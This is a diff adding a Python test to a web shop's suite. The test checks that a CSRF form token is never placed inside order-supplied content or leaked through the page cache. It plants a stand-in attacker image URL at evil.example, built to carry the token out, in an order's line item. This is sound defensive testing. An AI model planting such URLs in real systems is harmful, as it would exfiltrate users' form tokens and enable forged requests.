@@ -339,3 +339,32 @@ async def test_the_language_follows_the_order_then_the_browser_and_the_switch(
     switched = await browser.get(path_of(english), params={"lang": "nb"})
     assert '<html lang="nb">' in switched.text
     assert '<html lang="nb">' in (await browser.get(path_of(english))).text  # remembered
+
+
+async def test_order_data_cannot_plant_the_form_token_in_the_page(
+    api: ShopClient, browser: httpx.AsyncClient
+) -> None:
+    """Whatever an order carries, the page shows it as it is: the browser's form token
+    goes into the forms and nowhere else (not into an image address of a third party)."""
+    planted = "https://evil.example/pixel.png?t=\x00csrf\x00"
+    order = await create_order(
+        api.http,
+        line_items=[
+            {"title": "Mug \x00csrf\x00", "quantity": 1, "price": "249.00", "image_url": planted}
+        ],
+    )
+    page = await browser.get(path_of(order))
+    assert page.status_code == 200
+    token = browser.cookies["os_csrf"]
+    images = re.findall(r'<img src="(https://evil\.example/[^"]*)"', page.text)
+    assert images and all(token not in src for src in images)
+    assert page.text.count(token) == len(CSRF.findall(page.text)) > 0
+    assert {value for value in CSRF.findall(page.text)} == {token}
+    # Served again from the page cache, to a browser with a token of its own.
+    async with httpx.AsyncClient(
+        transport=api.http._transport, base_url="https://testserver"
+    ) as other:
+        again = await other.get(path_of(order))
+        mine = other.cookies["os_csrf"]
+        assert mine != token and token not in again.text
+        assert again.text.count(mine) == len(CSRF.findall(again.text))
